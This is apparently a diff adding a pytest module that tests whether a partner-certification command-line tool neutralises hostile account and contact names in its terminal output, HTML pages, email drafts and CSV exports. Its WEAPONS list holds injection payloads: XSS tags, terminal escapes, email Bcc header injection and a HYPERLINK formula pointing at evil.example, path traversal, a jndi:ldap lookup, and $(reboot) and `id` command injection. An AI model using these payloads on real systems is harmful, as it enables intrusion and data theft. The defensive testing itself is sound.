@@ -1,0 +1,95 @@
+"""What partners type as a weapon: on a terminal, in a page, a mail, a spreadsheet, a name of a file. None goes off."""
+
+import re
+import subprocess
+import unicodedata
+from email import message_from_bytes, policy
+from pathlib import Path
+
+import pytest
+
+from tests.command import COMMAND, clean_environment
+from tests.exporting import csv_of
+from tests.people import person
+from tests.torture import homes
+
+WEAPONS = [
+    "\x1b]0;owned\x07\x1b[2J\x1b[1A",
+    "Robert\u202egnp.exe",
+    "</td><script>alert(1)</script><img src=x onerror=alert(1)>",
+    '=HYPERLINK("http://evil.example","x")',
+    "x\r\nBcc: all@evil.example\r\n\r\nHello",
+    "../../../../etc/passwd\x00",
+    "| a | [x](http://evil.example) `` ${jndi:ldap://evil} |",
+    "{{ 7 * 7 }}{% raw %}%s%n$(reboot);`id`",
+    "a\u200bb\u2066c\u2069\ufeff\u00ad",
+    "\u2028\u2029\x85\x0b\x0c",
+]
+SAFE = [weapon.replace("\x00", "") for weapon in WEAPONS]  # NUL refuses a file
+
+
+@pytest.fixture(scope="module")
+def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A night of companies and people that are called so, released."""
+    folder = tmp_path_factory.mktemp("hostile")
+    people = [
+        person(weapon, f"p{n}@w{n}.example", Mailing_Street=weapon, Administrative_Privileges=weapon)
+        | {"Account ID": str(n + 1), "Account Name": f"{weapon} {n}"}
+        for n, weapon in enumerate(SAFE)
+    ]
+    (folder / "export.csv").write_bytes(csv_of(people))
+    (folder / "next.csv").write_bytes(csv_of([one | {"Sales Badged": "True"} for one in people]))
+    called(folder, "nightly", "export.csv")
+    called(folder, "approve", "latest", "--all", "--by", "Jo")
+    called(folder, "release")
+    called(folder, "nightly", "next.csv")
+    return folder / "home"
+
+
+def called(folder: Path, *words: str) -> tuple[str, str]:
+    """Standard output and error of the command, as bytes that a terminal would get."""
+    environment = clean_environment(PARTNER_CERTS_HOME=str(folder / "home"), PYTHONIOENCODING="utf-8")
+    done = subprocess.run([COMMAND, *words], env=environment, cwd=folder, capture_output=True, check=False)
+    assert done.returncode in (0, 4, 6), done.stderr
+    return done.stdout.decode(), done.stderr.decode()
+
+
+def test_a_terminal_gets_text_only(home: Path) -> None:
+    """No control sign, and none that turns the direction or can't be seen, but the ends of lines."""
+    commands = ["runs", "show latest", "review --full", "review --account 1", "history 2", "contacts", "contacts check"]
+    commands += ["draft --all --no-to", "overview", "workbook 3", "account 4 export.csv", "check next.csv"]
+    for command in commands:
+        for said in called(home.parent, *command.split()):
+            odd = {sign for sign in said if unicodedata.category(sign) in ("Cc", "Cf", "Zl", "Zp") and sign != "\n"}
+            assert not odd, (command, odd)
+    assert homes.check(home, at_rest=True).ready
+
+
+def test_a_page_shows_it_as_text(home: Path) -> None:
+    """Neither the record of a run nor the overview has an element or a script that partners wrote."""
+    called(home.parent, "overview")
+    for page in [*home.glob("runs/*/review.html"), home / "overview.html"]:
+        text = page.read_text(encoding="utf-8")
+        assert "<script>alert" not in text
+        assert "<img src=x" not in text
+        assert not re.search(r"\x1b|\x07", text)
+
+
+def test_a_mail_has_the_headers_that_it_should_have(home: Path) -> None:
+    """A name with line ends makes no header, and none is left out for it."""
+    called(home.parent, "draft", "--all", "--no-to", "--again")
+    drafts = list(home.glob("drafts/*.eml"))
+    assert len(drafts) >= len(SAFE)
+    for path in drafts:
+        mail = message_from_bytes(path.read_bytes(), policy=policy.SMTP)
+        assert {name.casefold() for name in mail} <= {
+            *("x-unsent", "to", "subject", "mime-version", "content-type"),
+        }
+        assert "\n" not in str(mail["Subject"])
+
+
+def test_a_spreadsheet_runs_none_of_it(home: Path) -> None:
+    """Each cell that begins like a formula has its apostrophe, also in the workbook."""
+    cells = [cell for path in home.glob("ready/*.csv") for cell in re.split(r'[,"\r\n]+', path.read_text("utf-8-sig"))]
+    assert "'=HYPERLINK(" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
